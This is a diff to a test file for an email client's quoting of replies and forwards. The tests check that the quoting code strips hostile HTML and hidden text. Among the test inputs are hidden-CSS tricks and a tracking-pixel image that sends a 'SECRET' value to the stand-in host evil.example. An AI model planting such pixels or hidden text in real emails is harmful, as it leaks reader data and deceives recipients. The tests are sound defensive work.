@@ -2,6 +2,7 @@
 import { describe, expect, it } from 'vitest'
 import { sanitizeHtml } from '../../../src/renderer/features/bodies/sanitize-html.ts'
 import { quoteEmail, type QuotedEmail } from '../../../src/renderer/features/writing/quote-email.ts'
+import { createReplyContent, wholeBodyFile } from '../../../src/renderer/features/writing/reply-content.ts'
 import { checkOutgoingHtml } from './support/check-outgoing-html.ts'
 import { hostileCorpus } from '../../support/hostile-corpus.ts'
 
@@ -15,8 +16,8 @@ const email = (html: string | null, text: string | null = null): QuotedEmail => 
   date: Date.UTC(2026, 4, 1, 9, 30),
 })
 
-it('quotes a reply with its author, in HTML and text', () => {
-  const quote = quoteEmail('reply', email('<p>Hello</p><p>World</p>'))
+it('quotes a reply with its author, in HTML and text', async () => {
+  const quote = await quoteEmail('reply', email('<p>Hello</p><p>World</p>'))
   expect(quote.html).toMatch(
     /On Fri,? 1 May 2026,? .*"Lee, Ann" &lt;ann@a\.example&gt; wrote:<\/p><blockquote type="cite"/,
   )
@@ -24,14 +25,14 @@ it('quotes a reply with its author, in HTML and text', () => {
   expect(checkOutgoingHtml(quote.html)).toEqual([])
 })
 
-it('quotes an e-mail without HTML by its text', () => {
-  const { html, text } = quoteEmail('replyAll', email(null, 'One\n\n> two <b>'))
+it('quotes an e-mail without HTML by its text', async () => {
+  const { html, text } = await quoteEmail('replyAll', email(null, 'One\n\n> two <b>'))
   expect(html).toContain('two &lt;b&gt;')
   expect(text).toMatch(/wrote:\n> One\n>\n>> two <b>$/)
 })
 
-it('puts a forwarded e-mail below a banner with escaped headers', () => {
-  const { html, text } = quoteEmail('forward', email('<p>Hello</p>'))
+it('puts a forwarded e-mail below a banner with escaped headers', async () => {
+  const { html, text } = await quoteEmail('forward', email('<p>Hello</p>'))
   expect(text).toMatch(
     /^-{10} Forwarded message -{10}\nFrom: "Lee, Ann" <ann@a\.example>\nDate: .*\nSubject: A <b>subject<\/b>\nTo: Bo <bo@b\.example>\n\nHello$/,
   )
@@ -56,8 +57,8 @@ describe('quoted text limited to what the reader shows', () => {
     return true
   }
 
-  it.each(hostileCorpus('evil.example'))('matches the reader for $name', ({ html }) => {
-    const quote = quoteEmail('reply', email(`${html}<p>kept</p>`))
+  it.each(hostileCorpus('evil.example'))('matches the reader for $name', async ({ html }) => {
+    const quote = await quoteEmail('reply', email(`${html}<p>kept</p>`))
     expect(checkOutgoingHtml(quote.html)).toEqual([])
     expect(quote.html).not.toMatch(/<(?:img|script|form|iframe|style)/i)
     const letters = lettersOf(quote.html, 'blockquote')
@@ -82,8 +83,8 @@ describe('quoted text limited to what the reader shows', () => {
     '<style>@media all { p.pre, b { font-size: 0 } }</style><p class="pre">SECRET</p>',
     '<style>/* } */ p[title="}"] { color: red } .pre { visibility: hidden }</style><p class="pre">SECRET</p>',
     '<img src="https://evil.example/pixel?SECRET" width="1" height="1" alt="SECRET">',
-  ])('leaves out hidden text: %s', (html) => {
-    const { html: sent, text } = quoteEmail('reply', email(`${html}<p>kept</p>`))
+  ])('leaves out hidden text: %s', async (html) => {
+    const { html: sent, text } = await quoteEmail('reply', email(`${html}<p>kept</p>`))
     expect(sent).toContain('kept')
     expect(sent + text).not.toContain('SECRET')
   })
@@ -94,12 +95,12 @@ describe('quoted text limited to what the reader shows', () => {
     '<div style="background:#000"><p style="color:#fff">WORDS</p></div>',
     '<style>.dark { background-color: navy } .dark p { color: white }</style><div class="dark"><p>WORDS</p></div>',
     '<style>@keyframes a { from { opacity: 0 } } .a:hover { display: none }</style><p class="a">WORDS</p>',
-  ])('keeps visible text: %s', (html) => {
-    expect(quoteEmail('reply', email(`<p>kept</p>${html}`)).text).toContain('WORDS')
+  ])('keeps visible text: %s', async (html) => {
+    expect((await quoteEmail('reply', email(`<p>kept</p>${html}`))).text).toContain('WORDS')
   })
 
-  it('names remote pictures and includes folded earlier e-mails', () => {
-    const { html, text } = quoteEmail(
+  it('names remote pictures and includes folded earlier e-mails', async () => {
+    const { html, text } = await quoteEmail(
       'reply',
       email(
         '<p>Hi</p><img src="https://a.example/p.png" alt="A graph" width="200"><div class="gmail_quote">On Monday Bo wrote:<blockquote class="gmail_quote"><p>Before</p></blockquote></div>',
@@ -112,8 +113,8 @@ describe('quoted text limited to what the reader shows', () => {
   })
 })
 
-it('keeps the direction of each paragraph of a text', () => {
-  const { html } = quoteEmail('reply', email(null, 'שלום\n\nHi, (שלום)\n\n12. مرحبا'))
+it('keeps the direction of each paragraph of a text', async () => {
+  const { html } = await quoteEmail('reply', email(null, 'שלום\n\nHi, (שלום)\n\n12. مرحبا'))
   const page = new DOMParser().parseFromString(html, 'text/html')
   expect([...page.querySelectorAll('blockquote p')].map((each) => each.getAttribute('dir'))).toEqual([
     'rtl',
@@ -123,7 +124,28 @@ it('keeps the direction of each paragraph of a text', () => {
   expect(checkOutgoingHtml(html)).toEqual([])
 })
 
-it('quotes a text of 150,000 lines', () => {
-  const { text } = quoteEmail('reply', email(null, 'line\n'.repeat(150_000)))
+it('quotes a text of 150,000 lines', async () => {
+  const { text } = await quoteEmail('reply', email(null, 'line\n'.repeat(150_000)))
   expect(text.split('\n').filter((line) => line === '> line')).toHaveLength(150_000)
+})
+
+it('says that the rest of a heavy message is not quoted', async () => {
+  const text = 'line\n'.repeat(100_000)
+  const about = { ...email(null), direction: 'inbound', replyTo: [], from: 'ann@a.example' } as const
+  const { quote } = await createReplyContent('reply', about, { html: null, text, apart: null }, [])
+  expect(quote?.text.match(/^> line$/gm)).toHaveLength(2_000)
+  expect(quote?.text).toMatch(/> \[The rest of this message is too large to quote\.\]$/)
+  expect(checkOutgoingHtml(quote?.html ?? '')).toEqual([])
+})
+
+it('attaches the whole text of a heavy message that is forwarded', async () => {
+  const text = 'line\n'.repeat(100_000)
+  const about = { ...email(null), direction: 'inbound', replyTo: [], from: 'ann@a.example' } as const
+  const fileOf = async (kind: 'reply' | 'forward', body: string) => {
+    const bodies = { html: null, text: body, apart: null }
+    return wholeBodyFile(bodies, (await createReplyContent(kind, about, bodies, [])).quote)
+  }
+  expect(await fileOf('forward', text)).toMatchObject({ name: 'Whole message.txt', size: text.length })
+  expect(await fileOf('forward', 'A line.')).toBeNull()
+  expect(await fileOf('reply', text)).toBeNull()
 })
